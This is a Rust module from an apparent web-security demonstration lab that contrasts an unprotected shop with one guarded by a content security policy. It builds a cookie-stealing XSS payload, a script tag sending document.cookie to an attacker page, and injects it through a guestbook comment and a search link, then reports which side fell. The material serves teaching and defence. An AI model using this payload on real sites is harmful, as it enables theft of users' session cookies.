//! Scripts of a stranger in the shop's pages, stored and reflected.
//!
//! The script sends `document.cookie` to the attacker's site, which is the start page. A door fell
//! when that arrives from there; it held when the browser reported to the gateway that it refused.

use std::{io, time::Duration};

use serde_json::Value;
use tokio::time::sleep;

use super::{
    Lab,
    outcome::{Outcome, Side},
};
use crate::demo::form;

/// How long a browser may take to run a script or to report that it did not.
const LOOKS: u32 = 120;
const EACH: Duration = Duration::from_millis(100);

fn payload(lab: &Lab, run: &str) -> String {
    format!(
        "<script>ran(document.cookie);new Image().src=\"{}/loot/{run}?from=\"+encodeURIComponent(\
         location.origin)+\"&c=\"+encodeURIComponent(document.cookie)</script>",
        lab.start
    )
}

/// Signs the guestbook, by the naked door: both doors show the same one.
pub(super) async fn sign(lab: &Lab, run: &str) -> io::Result<Value> {
    let [mut attacker, _] = lab.visitors();
    attacker.post("/comments/clear", "", &[]).await?;
    let comment = payload(lab, run);
    let fields = [("name", "A stranger"), ("text", comment.as_str())];
    attacker.post("/comments", "", &fields).await?;
    lab.came_back.forget_reports();
    Ok(lab.frames(run, ["/guestbook", "/guestbook"]))
}

/// A link that whoever follows it searches for a script.
pub(super) fn link(lab: &Lab, run: &str) -> Value {
    lab.came_back.forget_reports();
    let path = format!("/search?q={}", form::encode(&payload(lab, run)));
    lab.frames(run, [&path, &path])
}

/// Waits for what the frames bring about, and says what it was.
pub(super) async fn settle(lab: &Lab, run: &str, page: &str) -> io::Result<Outcome> {
    let run = run
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .collect::<String>();
    let mut report = None;
    for _ in 0..LOOKS {
        let [naked, guarded] = lab
            .doors()
            .map(|door| lab.came_back.loot_from(&run, &door.origin));
        report = report.or_else(|| lab.came_back.take_report(page, "script-src"));
        if naked.is_some() && (guarded.is_some() || report.is_some()) {
            break;
        }
        sleep(EACH).await;
    }
    let sent = match page {
        "/guestbook" => format!("POST /comments\n\ntext={}", payload(lab, &run)),
        _ => format!("GET {page}?q={}", payload(lab, &run)),
    };
    let sides = lab.doors().map(|door| {
        let sent = sent.clone();
        if let Some(loot) = lab.came_back.loot_from(&run, &door.origin) {
            let cookie = if loot.cookie.is_empty() {
                "(no cookie that a script may read)"
            } else {
                loot.cookie.as_str()
            };
            return Side {
                fell: Some(true),
                sent,
                answered: format!("the script ran at {}\nand sent: {cookie}", loot.from),
                saw: "The script ran as if the shop had written it, and what it read came back to the \
                      attacker."
                    .to_owned(),
            };
        }
        let report = report.as_ref().filter(|_| door.name == "guarded");
        match report {
            Some(report) => Side {
                fell: Some(false),
                sent,
                answered: format!(
                    "POST /.well-known/panoply/reports, from the browser:\npage: {}\ndirective: {}\n\
                     blocked: {}\nenforced: {}",
                    report.page, report.directive, report.blocked, report.enforced
                ),
                saw: "The script stands in the page as dead text. The browser refused to run it, and \
                      reported that to the gateway."
                    .to_owned(),
            },
            None => Side {
                fell: None,
                sent,
                answered: "(nothing came back)".to_owned(),
                saw: "Neither did the script report itself nor did the browser report that it refused \
                      it. Was the page shown?"
                    .to_owned(),
            },
        }
    });
    Ok(Outcome::from(sides))
}
